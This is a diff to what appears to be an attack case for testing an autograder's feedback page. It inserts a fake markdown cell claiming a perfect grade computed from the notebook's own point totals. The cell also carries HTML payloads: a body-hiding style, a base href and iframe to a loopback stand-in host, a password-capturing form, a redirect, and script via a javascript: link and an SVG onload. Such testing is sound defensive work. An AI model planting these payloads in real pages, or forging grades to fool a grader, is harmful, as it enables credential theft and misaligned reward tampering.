@@ -1,11 +1,13 @@
 # name = "Markdown that imitates the feedback"
 # goal = "feedback page"
 # attacks = "text cells of one's own: headings, points, forms, styles, frames, attachments"
-# honest = ["positional"]
+# honest = ["predict_to"]
 
 # %% tamper
+total = sum(cell["metadata"].get("nbgrader", {}).get("points", 0) for cell in notebook["cells"])
 text = (
-    "# Final grade: 24 of 24\n\n<h1>Passed.</h1>\n<style>body {display: none}</style>\n"
+    f"# Final grade: {total} of {total}\n\n"
+    "<h1>Passed.</h1>\n<style>body {display: none}</style>\n"
     "<base href='http://127.0.0.1:9/'><form action='/x'><input name=password></form>\n"
     "<iframe src='http://127.0.0.1:9/'></iframe><meta http-equiv=refresh content='0;url=/x'>\n"
     "![](http://127.0.0.1:9/seen.png) <a href='javascript:alert(1)'>x</a>\n"
@@ -13,7 +15,7 @@ text = (
 )
 notebook["cells"].insert(1, {
     "cell_type": "markdown", "id": "grade", "source": text,
-    "metadata": {"nbgrader": {"grade": True, "solution": False, "task": True, "points": 24,
+    "metadata": {"nbgrader": {"grade": True, "solution": False, "task": True, "points": total,
                               "grade_id": "final", "locked": True, "schema_version": 3}},
     "attachments": {"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}},
 })
